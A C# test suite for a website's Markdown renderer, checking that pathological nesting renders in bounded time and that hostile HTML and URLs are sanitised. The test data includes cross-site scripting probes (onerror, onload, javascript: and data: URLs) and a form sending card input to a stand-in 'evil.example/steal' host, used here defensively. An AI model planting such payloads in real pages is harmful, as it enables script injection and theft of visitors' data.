using System.Diagnostics;
using System.Text;
using Cadence.Markdown;
using Cadence.Markdown.Dialect;
using CsCheck;

namespace Cadence.Site.Tests.Hostile;

/// <summary>Whatever a post holds, the dialect answers with safe HTML, in bounded time, and never throws.</summary>
public class HostileMarkdownTests
{
    // Generous: the machine that runs the tests is shared; a real regression (quadratic or worse) takes minutes, not seconds.
    private static readonly TimeSpan PerDocument = TimeSpan.FromSeconds(4);

    public static IEnumerable<TestCaseData> Pathological()
    {
        yield return new TestCaseData(new string('>', 5000) + " deep quote\n").SetName("Five thousand nested quotes");
        yield return new TestCaseData(string.Concat(Enumerable.Range(0, 1000).Select(i => new string(' ', i * 2) + "- item\n"))).SetName("A thousand list levels nested by indentation");
        yield return new TestCaseData(string.Concat(Enumerable.Repeat("> - ", 2000)) + "mixed\n").SetName("Quotes and lists nested two thousand deep");
        yield return new TestCaseData(new string('[', 20000) + "x").SetName("Twenty thousand unclosed brackets");
        yield return new TestCaseData(string.Concat(Enumerable.Repeat("[a](", 5000))).SetName("Five thousand unclosed links");
        yield return new TestCaseData(string.Concat(Enumerable.Repeat("*a **b ", 10000))).SetName("Ten thousand unclosed emphases");
        yield return new TestCaseData(string.Concat(Enumerable.Repeat("<div>", 5000)) + "x").SetName("Five thousand nested divs");
        yield return new TestCaseData(new string('`', 5000) + "x" + new string('`', 4999)).SetName("Unbalanced backtick runs");
        yield return new TestCaseData(string.Concat(Enumerable.Repeat("| a ", 3000)) + "|\n" + string.Concat(Enumerable.Repeat("|---", 3000)) + "|\n").SetName("A table three thousand columns wide");
    }

    [TestCaseSource(nameof(Pathological))]
    public void A_pathological_document_renders_in_bounded_time_as_safe_html(string markdown)
    {
        var clock = Stopwatch.StartNew();
        var rendered = MarkdownDialect.Render(markdown);
        var analysed = MarkdownDialect.Analyse(markdown);
        Assert.Multiple(() =>
        {
            Assert.That(clock.Elapsed, Is.LessThan(PerDocument * 2));
            Assert.That(rendered.Html, Is.Not.Empty);
            Assert.That(UnsafeOutput.In(rendered.Html), Is.Empty);
            Assert.That(analysed.WordCount, Is.EqualTo(rendered.Facts.WordCount));
        });
    }

    [Test]
    public void Raw_html_keeps_what_a_post_needs_and_loses_what_it_must_not_have()
    {
        var html = MarkdownDialect.Render("""
            <p class="note" id="x" name="y" style="background:url(javascript:alert(1))" onclick="alert(1)">Note <b>bold</b> <a href="https://example.com" title="t">link</a></p>

            <form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>

            <iframe src="https://evil.example"></iframe><img src="/media/knee.png" alt="Knee" onerror="alert(1)"><svg onload="alert(1)"></svg>
            <table><tr><td colspan="2">cell</td></tr></table><details><summary>More</summary>Hidden</details>
            """).Html;
        Assert.Multiple(() =>
        {
            Assert.That(UnsafeOutput.In(html), Is.Empty);
            Assert.That(html, Does.Contain("<b>bold</b>").And.Contain("href=\"https://example.com\"").And.Contain("class=\"note\""));
            Assert.That(html, Does.Contain("<img src=\"/media/knee.png\" alt=\"Knee\">").And.Contain("<td colspan=\"2\">cell</td>").And.Contain("<summary>More</summary>"));
            Assert.That(html, Does.Not.Contain("<form").And.Not.Contain("<input").And.Not.Contain("<button").And.Not.Contain("<iframe").And.Not.Contain("<svg"));
            Assert.That(html, Does.Not.Contain(" id=").And.Not.Contain(" name=").And.Not.Contain("style="));
        });
    }

    [TestCase("javascript:alert(1)", false)]
    [TestCase(" JaVaScRiPt:alert(1)", false)]
    [TestCase("java\tscript:alert(1)", false)]
    [TestCase("data:text/html,<script>", false)]
    [TestCase("vbscript:x", false)]
    [TestCase("//evil.example/x", false)]
    [TestCase("/\\evil.example/x", false)]
    [TestCase("https://example.com/a:b", true)]
    [TestCase("mailto:desk@clinic.example", true)]
    [TestCase("tel:+44 20 7946 0000", true)]
    [TestCase("/posts/knee/", true)]
    [TestCase("knee.png", true)]
    [TestCase("#top", true)]
    public void One_url_policy_decides_every_address(string url, bool allowed) =>
        Assert.That(SafeUrl.IsAllowed(url), Is.EqualTo(allowed));

    [TestCase("膝の痛みについて", "xi")]
    [TestCase("Біль у коліні", "bil-u-kolini")]
    [TestCase("Боль в колене", "bol-v-kolene")]
    [TestCase("무릎 통증", "muleup-tongjeung")]
    [TestCase("Knee Pain & Hips", "knee-pain-and-hips")]
    public void Titles_in_any_script_give_ascii_slugs(string title, string start)
    {
        var slug = Slug.From(title);
        Assert.That(Slug.IsValid(slug), Is.True, slug);
        Assert.That(slug, Does.StartWith(start));
    }

    [Test]
    public void A_title_with_nothing_to_transliterate_gets_a_stable_fallback_slug()
    {
        var slug = Slug.From("!!! ??? ...");
        Assert.Multiple(() =>
        {
            Assert.That(slug, Does.Match("^post-[0-9a-f]{8}$"));
            Assert.That(Slug.From("!!! ??? ..."), Is.EqualTo(slug), "the same title, the same slug");
            Assert.That(Slug.From("??? !!! ..."), Is.Not.EqualTo(slug));
            Assert.That(Slug.From("   "), Is.Empty);
        });
    }

    [Test]
    public void Shortened_text_is_cut_between_graphemes()
    {
        var text = string.Concat(Enumerable.Repeat("👩‍⚕️🏃🏽‍♀️", 40));
        for (var max = 5; max < 60; max++)
        {
            var cut = PlainText.Shorten(text, max);
            Assert.That(cut.Length, Is.LessThanOrEqualTo(max));
            Assert.That(Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(cut)), Is.EqualTo(cut), "no lone surrogate at " + max);
            Assert.That(text.StartsWith(cut[..^1], StringComparison.Ordinal), Is.True);
            Assert.That(new System.Globalization.StringInfo(text).SubstringByTextElements(0, new System.Globalization.StringInfo(cut[..^1]).LengthInTextElements),
                Is.EqualTo(cut[..^1]), "whole graphemes at " + max);
        }
    }

    private static readonly Gen<string> Piece = Gen.OneOf(
        ">", "> ", "- ", "1. ", "  ", "    ", "\n", "\n\n", "[", "]", "(", ")", "![", "](", "*", "**", "_", "`", "```", "~~~", "#", "|", "---",
        "<", ">", "</", "<div>", "</div>", "<script>", "<form action=\"https://evil.example\">", "<input name=x>", "<a href=\"javascript:alert(1)\">",
        "<img src=x onerror=alert(1)>", "<p style=\"color:red\">", "<iframe src=\"//evil.example\">", "<svg onload=alert(1)>", "<math>", "<!--", "-->",
        "javascript:alert(1)", "JaVaScRiPt:x", "data:text/html,x", "https://example.com/a?b=c&d", "//evil.example", "mailto:a@b.c", "&amp;", "&#106;",
        "::: form knee-ebook", "👩‍⚕️", "🏃🏽‍♀️", "膝", "Біль", "\u200d", "\ufe0f", "word", " ", "\\", "\t");

    private static readonly Gen<string> Document = Gen.Select(Piece.Array[0, 400], Gen.Int[1, 60], (pieces, repeat) =>
    {
        var text = new StringBuilder();
        foreach (var piece in pieces) text.Append(piece.Length == 1 && repeat > 30 ? new string(piece[0], repeat) : piece);
        return text.ToString();
    });

    [Test]
    public void Generated_hostile_documents_never_throw_run_long_or_render_unsafe_html()
    {
        string? firstProblem = null;
        try
        {
            Document.Sample(markdown =>
            {
                var problem = ProblemWith(markdown);
                firstProblem ??= problem;
                return problem is null;
            }, iter: 300, threads: 1);
        }
        catch (CsCheckException e)
        {
            Assert.Fail($"{firstProblem}\n{e.Message[..Math.Min(e.Message.Length, 1500)]}");
        }
    }

    /// <returns>What is wrong with how the dialect treats the document, or null.</returns>
    private static string? ProblemWith(string markdown)
    {
        try
        {
            var clock = Stopwatch.StartNew();
            var rendered = MarkdownDialect.Render(markdown);
            var elapsed = clock.Elapsed;
            var plain = PlainText.Shorten(rendered.Facts.PlainStart, 160);
            if (elapsed > PerDocument) return $"took {elapsed}";
            if (UnsafeOutput.In(rendered.Html) is { Count: > 0 } unsafeParts) return "unsafe: " + string.Join("; ", unsafeParts);
            if (plain.Contains('\uFFFD', StringComparison.Ordinal) || Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(plain)) != plain)
                return "a broken character in: " + plain;
            return null;
        }
        catch (Exception e)
        {
            return e.ToString();
        }
    }
}
